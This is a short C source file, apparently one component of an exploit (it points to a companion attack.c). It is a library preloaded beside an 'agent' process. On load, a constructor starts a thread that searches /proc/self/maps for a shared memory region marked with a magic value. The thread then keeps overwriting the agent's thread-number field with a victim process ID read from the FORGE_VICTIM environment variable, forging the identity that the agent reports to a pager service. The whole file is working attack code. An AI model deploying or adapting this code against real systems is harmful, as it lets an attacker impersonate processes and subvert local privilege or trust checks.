/*
 * Preloaded beside the agent: says in the memory shared with the pager, from the moment that there is any,
 * that the agent's thread is the process that FORGE_VICTIM names (see attack.c).
 */
#include "common.h"

#define MAGIC 0x31424245u /* first word of the memory shared with the pager */
#define AT_THREAD 4       /* its word with the number of the agent's thread */

static volatile uint32_t *shared_memory(void) {
    char text[65536];
    int maps = open("/proc/self/maps", O_RDONLY);
    MUST(maps >= 0);
    size_t length = 0;
    ssize_t got;
    while (length < sizeof text - 1 && (got = read(maps, text + length, sizeof text - 1 - length)) > 0)
        length += got;
    close(maps);
    text[length] = 0;
    for (char *line = text; line; line = strchr(line, '\n') ? strchr(line, '\n') + 1 : NULL) {
        unsigned long start, end;
        char access[8];
        if (sscanf(line, "%lx-%lx %7s", &start, &end, access) == 3 && !strcmp(access, "rw-s"))
            if (*(volatile uint32_t *)start == MAGIC) return (volatile uint32_t *)start;
    }
    return NULL;
}

static void *forge(void *number) {
    volatile uint32_t *shared = NULL;
    while (!shared) shared = shared_memory();
    for (;;) shared[AT_THREAD] = (uint32_t)(uintptr_t)number;
    return NULL;
}

__attribute__((constructor)) static void start(void) {
    const char *number = getenv("FORGE_VICTIM");
    pthread_t thread;
    if (number) pthread_create(&thread, NULL, forge, (void *)strtoul(number, NULL, 10));
}
